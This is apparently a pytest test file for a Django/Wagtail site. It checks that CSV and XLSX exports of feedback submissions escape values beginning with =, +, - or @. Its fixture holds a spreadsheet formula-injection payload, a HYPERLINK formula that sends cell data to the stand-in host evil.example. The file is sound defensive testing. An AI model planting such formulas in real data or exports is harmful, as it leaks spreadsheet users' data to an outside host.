"""The feedback listing's CSV and XLSX exports (Wagtail's list export) never write a live formula."""

import io

import pytest
from openpyxl import load_workbook

from home.models import FeedbackSubmission, GuidancePage

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def hostile_feedback(home_page):
    page = GuidancePage.objects.get(slug="draft-manifesto")
    return FeedbackSubmission.objects.create(
        page=page, name="+44 7700 900000", email="@attacker", role="public", comment=FORMULA
    )


def test_feedback_csv_export_guards_formulas(client, editor, hostile_feedback):
    client.force_login(editor)
    response = client.get("/admin/feedback/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert "'" + FORMULA.replace('"', '""') in text
    assert ",'+44 7700 900000," in text
    assert ",'@attacker," in text
    for line in text.splitlines()[1:]:
        for value in line.split(","):
            assert value[:1] not in ("=", "+", "-", "@"), line


def test_feedback_xlsx_export_guards_formulas(client, editor, hostile_feedback):
    client.force_login(editor)
    response = client.get("/admin/feedback/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [c.value for c in sheet[2]]
    assert "'" + FORMULA in values
    assert all(not (isinstance(v, str) and v[:1] in "=+-@") for v in values)
